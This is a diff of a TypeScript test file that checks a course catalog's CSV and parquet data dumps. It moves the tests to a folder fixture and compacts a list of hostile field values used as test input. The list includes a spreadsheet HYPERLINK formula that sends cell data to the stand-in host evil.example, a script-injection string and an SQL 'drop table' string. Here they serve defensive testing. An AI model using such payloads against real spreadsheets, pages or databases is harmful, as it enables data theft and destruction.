@@ -3,11 +3,12 @@ import { createHash } from 'node:crypto';
 import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect } from 'vitest';
 import type { FullCourse } from '../../src/api/schemas.ts';
 import type { BuildResult } from '../../src/pipeline/options.ts';
 import { buildMuchLater, runBuild, type Chosen } from '../build/run.ts';
-import { inFolder, makeFolder, removeFolder, writeFiles } from '../folders.ts';
+import { it } from '../fixture.ts';
+import { makeFolder, removeFolder, writeFiles } from '../folders.ts';
 import { isRealMissing, neededForReal, realCatalog } from '../real-catalog.ts';
 import { coursesByDuckdb, linesIn, withSixDigits } from './read-back.ts';
 
@@ -16,25 +17,9 @@ const formats = all.dumps;
 
 /** Text that somewhere is more than text. */
 const attacks = [
-  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-  '+1',
-  '-2+3',
-  '@SUM(A1)',
-  '\tcmd',
-  '"quoted", ""twice""',
-  'two\r\nlines\nand more',
-  '</script><script>alert(1)</script>',
-  "'; drop table courses; --",
-  ' spaces ',
-  '\\N',
-  'NULL',
-  'null',
-  '1e400',
-  '\u2028\u2029',
-  '\u{1F600}é中',
-  '{{dataBlock}}',
-  '%s %n',
-  'a;b',
+  ...'=HYPERLINK("https://evil.example/?"&A1,"Click")|+1|-2+3|@SUM(A1)|\tcmd|"quoted", ""twice""'.split('|'),
+  ...'two\r\nlines\nand more|</script><script>alert(1)</script>| spaces |\\N|NULL|null|1e400|\u2028\u2029'.split('|'),
+  ..."\u{1F600}é中|{{dataBlock}}|%s %n|a;b|'; drop table courses; --".split('|'),
 ];
 
 /** Ids that are not in order, times with a fraction, several values, and attacks in every field. */
@@ -191,39 +176,33 @@ describe('the dumps of a build', () => {
     }
   });
 
-  it('are those of an empty catalog where there is no course', async () => {
-    await inFolder(async (place) => {
-      const [data, out] = [join(place, 'data'), join(place, 'dist')];
-      writeFiles(data, { 'providers.json': '[]', 'categories.json': '[]', 'courses.json': '[]' });
-      await runBuild({ data, out, chosen: all });
-      for (const format of formats) expect(await coursesByDuckdb(out, format)).toEqual([]);
-      expect(wrongIn(out)).toEqual([]);
-    });
+  it('are those of an empty catalog where there is no course', async ({ folder: place }) => {
+    const [data, out] = [join(place, 'data'), join(place, 'dist')];
+    writeFiles(data, { 'providers.json': '[]', 'categories.json': '[]', 'courses.json': '[]' });
+    await runBuild({ data, out, chosen: all });
+    for (const format of formats) expect(await coursesByDuckdb(out, format)).toEqual([]);
+    expect(wrongIn(out)).toEqual([]);
   });
 
-  it('are only those that were asked for, and go when they are no longer', async () => {
-    await inFolder(async (place) => {
-      const [data, out] = [join(place, 'data'), join(place, 'dist')];
-      writeFiles(data, source);
-      await runBuild({ data, out, chosen: { dumps: ['csv', 'parquet'] } });
-      await runBuild({ data, out, chosen: { dumps: ['csv'] } });
-      expect(readdirSync(join(out, 'dumps')).filter((name) => name.startsWith('courses'))).toEqual(['courses.csv']);
-      await runBuild({ data, out });
-      expect(existsSync(join(out, 'dumps'))).toBe(false);
-    });
+  it('are only those that were asked for, and go when they are no longer', async ({ folder: place }) => {
+    const [data, out] = [join(place, 'data'), join(place, 'dist')];
+    writeFiles(data, source);
+    await runBuild({ data, out, chosen: { dumps: ['csv', 'parquet'] } });
+    await runBuild({ data, out, chosen: { dumps: ['csv'] } });
+    expect(readdirSync(join(out, 'dumps')).filter((name) => name.startsWith('courses'))).toEqual(['courses.csv']);
+    await runBuild({ data, out });
+    expect(existsSync(join(out, 'dumps'))).toBe(false);
   });
 
-  it('refuse a public file in their folder', async () => {
-    await inFolder(async (place) => {
-      writeFiles(place, { 'public/dumps/mine.csv': 'a' });
-      writeFiles(join(place, 'data'), source);
-      const run = { data: join(place, 'data'), out: join(place, 'dist') };
-      await expect(runBuild({ ...run, chosen: all })).rejects.toMatchObject({
-        problems: [expect.objectContaining({ finding: 'is in dumps, which belongs to the dumps' })],
-      });
-      await runBuild(run);
-      expect(readFileSync(join(place, 'dist/dumps/mine.csv'), 'utf8')).toBe('a');
+  it('refuse a public file in their folder', async ({ folder: place }) => {
+    writeFiles(place, { 'public/dumps/mine.csv': 'a' });
+    writeFiles(join(place, 'data'), source);
+    const run = { data: join(place, 'data'), out: join(place, 'dist') };
+    await expect(runBuild({ ...run, chosen: all })).rejects.toMatchObject({
+      problems: [expect.objectContaining({ finding: 'is in dumps, which belongs to the dumps' })],
     });
+    await runBuild(run);
+    expect(readFileSync(join(place, 'dist/dumps/mine.csv'), 'utf8')).toBe('a');
   });
 });
 
